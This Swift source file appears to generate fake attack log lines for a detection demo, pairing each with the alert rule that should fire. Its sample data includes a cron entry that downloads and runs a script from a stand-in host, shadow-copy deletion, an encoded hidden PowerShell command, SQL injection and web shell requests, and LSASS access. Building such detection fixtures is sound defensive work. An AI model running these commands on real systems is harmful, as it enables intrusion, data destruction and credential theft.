import Foundation
import Vocabulary

/// Something planted in the demo's logs, and the alert that it must raise.
struct DemoAttack: Sendable {
    /// How long before the end, in hours.
    let hours: Double
    /// The title of the rule that catches it.
    let rule: String
    /// A value of the entity that tells it from others of the same rule.
    let mark: String
    private let make: @Sendable (Date) -> [DemoStory.Line]

    init(_ hours: Double, _ rule: String, _ mark: String, _ make: @escaping @Sendable (Date) -> [DemoStory.Line]) {
        self.hours = hours
        self.rule = rule
        self.mark = mark
        self.make = make
    }

    func lines(before end: Date) -> [DemoStory.Line] { make(end.addingTimeInterval(-hours * 3_600)) }

    static var all: [DemoAttack] { windows + cloud + linux + web }

    private static let windows: [DemoAttack] = [
        DemoAttack(2, "Shadow copies or backups deleted", "ws-17") { [shadow($0, "ws-17", "alice")] },
        DemoAttack(27, "Shadow copies or backups deleted", "fs-2") { [shadow($0, "fs-2", "backup")] },
        DemoAttack(37, "Microsoft Defender protection disabled", "ws-21") {
            let defender = "Microsoft-Windows-Windows Defender"
            return [
                line(
                    $0,
                    .windows,
                    DemoText.windows(
                        $0,
                        5001,
                        "\(defender)/Operational",
                        defender,
                        "ws-21",
                        [("Product Name", "Microsoft Defender Antivirus")]
                    )
                )
            ]
        },
        DemoAttack(216, "Windows event log cleared", "dc-1") {
            let subject = [("SubjectUserName", "mallory"), ("SubjectDomainName", "CORP")]
            return [
                line(
                    $0,
                    .windows,
                    DemoText.windows($0, 1102, "Security", "Microsoft-Windows-Eventlog", "dc-1", subject)
                )
            ]
        },
        DemoAttack(192, "LSASS memory opened", "ws-17") {
            let image = "C:\\Users\\mallory\\Downloads\\pd64.exe"
            let data = [
                ("SourceImage", image), ("TargetImage", "C:\\Windows\\System32\\lsass.exe"),
                ("GrantedAccess", "0x1fffff"), ("SourceUser", "CORP\\mallory"),
            ]
            let sysmon = "Microsoft-Windows-Sysmon"
            return [line($0, .windows, DemoText.windows($0, 10, "\(sysmon)/Operational", sysmon, "ws-17", data))]
        },
        DemoAttack(97, "Encoded PowerShell command", "ws-31") {
            let shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
            let command = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
            let parent = "C:\\Windows\\System32\\cmd.exe"
            return [
                line(
                    $0,
                    .windows,
                    DemoText.process($0, "ws-31", user: "heidi", image: shell, command: command, parent: parent)
                )
            ]
        },
        DemoAttack(75, "Windows account locked out", "heidi") { at in
            burst(at, 3, every: 60) {
                let data = [("TargetUserName", "heidi"), ("TargetDomainName", "WS-31"), ("SubjectUserName", "DC-1$")]
                let auditing = "Microsoft-Windows-Security-Auditing"
                return line($0, .windows, DemoText.windows($0, 4740, "Security", auditing, "dc-1", data))
            }
        },
    ]

    private static let cloud: [DemoAttack] = [
        DemoAttack(42, "AWS root console login", "111122223333") {
            let more: [JSON.Member] = [
                .init("responseElements", ["ConsoleLogin": "Success"]), .init("eventType", "AwsConsoleSignIn"),
                .init("additionalEventData", ["MFAUsed": "Yes"]),
            ]
            let text = DemoText.aws($0, "signin", "ConsoleLogin", by: "root", from: "203.0.113.80", more: more)
            return [line($0, .aws, text)]
        },
        DemoAttack(146, "AWS GuardDuty disabled", "111122223333") {
            let detector: JSON = ["detectorId": "12abc34d567e8fa901bc2d34e56789f0"]
            let text = DemoText.aws($0, "guardduty", "DeleteDetector", by: "mallory", from: "203.0.113.80", detector)
            return [line($0, .aws, text)]
        },
        DemoAttack(265, "AWS access key made for another user", "admin-carol") {
            let user: JSON = ["userName": "admin-carol"]
            return [
                line($0, .aws, DemoText.aws($0, "iam", "CreateAccessKey", by: "mallory", from: "203.0.113.80", user))
            ]
        },
        DemoAttack(77, "GitHub repository made public", "example-org/billing") {
            let more = [("visibility", "public"), ("previous_visibility", "private")]
            return [line($0, .github, DemoText.github($0, "repo.access", by: "mallory", "example-org/billing", more))]
        },
        DemoAttack(170, "GitHub secret scanning disabled", "example-org/shop") {
            let action = "repository_secret_scanning.disable"
            return [line($0, .github, DemoText.github($0, action, by: "ivan", "example-org/shop", []))]
        },
        DemoAttack(290, "Okta account locked repeatedly", "alice@example.com") { locks($0) },
        DemoAttack(5, "Okta account locked repeatedly", "alice@example.com") { locks($0) },
        DemoAttack(241, "Okta push requests refused again and again", "grace@example.com") { at in
            burst(at, 3, every: 120) {
                let type = "user.mfa.okta_verify.deny_push"
                let words = "User rejected Okta push verify"
                return line($0, .okta, DemoText.okta($0, type, words, user: "grace", from: "203.0.113.77", "FAILURE"))
            }
        },
    ]

    private static let linux: [DemoAttack] = [
        DemoAttack(1, "SSH password guessing", "203.0.113.44") { at in
            let guesses = burst(at, 42, every: 40) {
                let message = "Failed password for invalid user admin from 203.0.113.44 port 40022 ssh2"
                return line($0, .bastion, DemoText.syslog($0, 38, "bastion", "sshd[4242]", message))
            }
            let success = at.addingTimeInterval(1_800)
            let message = "Accepted password for bob from 203.0.113.44 port 40099 ssh2"
            return guesses + [line(success, .bastion, DemoText.syslog(success, 38, "bastion", "sshd[4299]", message))]
        },
        DemoAttack(4, "Cron job downloads and runs a script", "redis") {
            let message = "(redis) CMD (curl -fsSL http://198.51.100.200/i.sh | sh)"
            return [line($0, .database, DemoText.syslog($0, 78, "db-1", "CRON[3011]", message))]
        },
        DemoAttack(20, "sudo by somebody who may not", "mallory") {
            let message =
                "   mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/bash"
            return [line($0, .app, DemoText.syslog($0, 85, "app-1", "sudo", message))]
        },
        DemoAttack(322, "Root shell through sudo", "ivan") {
            let message = "   ivan : TTY=pts/0 ; PWD=/home/ivan ; USER=root ; COMMAND=/bin/bash"
            return [line($0, .app, DemoText.syslog($0, 85, "app-2", "sudo", message))]
        },
        DemoAttack(40, "Log or firewall service stopped", "app-2") {
            let message = "Stopped rsyslog.service - System Logging Service."
            return [line($0, .app, DemoText.syslog($0, 30, "app-2", "systemd[1]", message))]
        },
    ]

    private static let web: [DemoAttack] = [
        DemoAttack(30, "Web shell access", "198.51.100.131") { at in
            burst(at, 4, every: 30) {
                let request = "POST /wp-content/uploads/2026/11/x.php"
                return line($0, .web, DemoText.access($0, "198.51.100.131", request, 200, 61, "curl/8.16.0"))
            }
        },
        DemoAttack(122, "SQL injection attempt answered", "198.51.100.132") { at in
            burst(at, 6, every: 20) {
                let request = "GET /item?id=7%20union%20select%201,version(),3--"
                return line($0, .web, DemoText.access($0, "198.51.100.132", request, 200, 8_123, "Mozilla/5.0"))
            }
        },
        DemoAttack(6, "Web scanner at work", "198.51.100.133") { scan($0, "198.51.100.133") },
    ]

    /// What the team's own scanner does; a suppression hides it.
    static let hidden = [216.5, 48.5].map { hours in
        DemoAttack(hours, "Web scanner at work", ownScanner) { scan($0, ownScanner) }
    }
    static let ownScanner = "198.51.100.177"

    private static func line(_ at: Date, _ feed: DemoStory.Feed, _ text: String) -> DemoStory.Line {
        DemoStory.Line(at: at, feed: feed, text: text)
    }

    private static func burst(
        _ at: Date,
        _ count: Int,
        every seconds: Double,
        _ make: (Date) -> DemoStory.Line
    )
        -> [DemoStory.Line]
    { (0..<count).map { make(at.addingTimeInterval(Double($0) * seconds)) } }

    private static func shadow(_ at: Date, _ computer: String, _ user: String) -> DemoStory.Line {
        let text = DemoText.process(
            at,
            computer,
            user: user,
            image: "C:\\Windows\\System32\\vssadmin.exe",
            command: "vssadmin.exe delete shadows /all /quiet",
            parent: "C:\\Windows\\System32\\cmd.exe"
        )
        return line(at, .windows, text)
    }

    private static func locks(_ at: Date) -> [DemoStory.Line] {
        burst(at, 7, every: 60) {
            let words = "Max sign in attempts exceeded"
            let text = DemoText.okta(
                $0,
                "user.account.lock",
                words,
                user: "alice",
                from: "203.0.113.77",
                "FAILURE",
                reason: "LOCKED_OUT"
            )
            return line($0, .okta, text)
        }
    }

    private static func scan(_ at: Date, _ address: String) -> [DemoStory.Line] {
        burst(at, 5, every: 2) {
            line($0, .web, DemoText.access($0, address, "GET /", 200, 512, "sqlmap/1.9#stable (https://sqlmap.org)"))
        }
    }
}
